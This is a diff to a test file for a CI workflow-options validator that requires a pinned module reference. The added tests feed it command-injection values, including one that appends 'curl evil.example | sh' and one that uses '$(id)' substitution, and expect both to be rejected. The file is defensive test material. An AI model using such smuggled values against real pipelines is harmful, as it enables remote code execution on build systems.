@@ -459,6 +459,9 @@ describe("workflow options", () => {
       'module "github.com/safl/bty-ci" has no pinned ref: pass e.g. github.com/safl/bty-ci@v1.2.3 (a tag or commit), or "" when bty-ci is installed as a toolchain',
     );
     expect(() => workflowOptions("bty-ci@main")).toThrow(/no pinned ref/);
+    // The module lands in every run: line, so nothing around the reference gets through.
+    expect(() => workflowOptions("github.com/safl/bty-ci@v1.0.0; curl evil.example | sh")).toThrow(/no pinned ref/);
+    expect(() => workflowOptions("$(id) github.com/safl/bty-ci@v1.0.0")).toThrow(/no pinned ref/);
     expect(workflowOptions("  github.com/safl/bty-ci@0123abc ")).toEqual({ module: "github.com/safl/bty-ci@0123abc" });
     expect(workflowOptions("")).toEqual({ module: "" });
   });
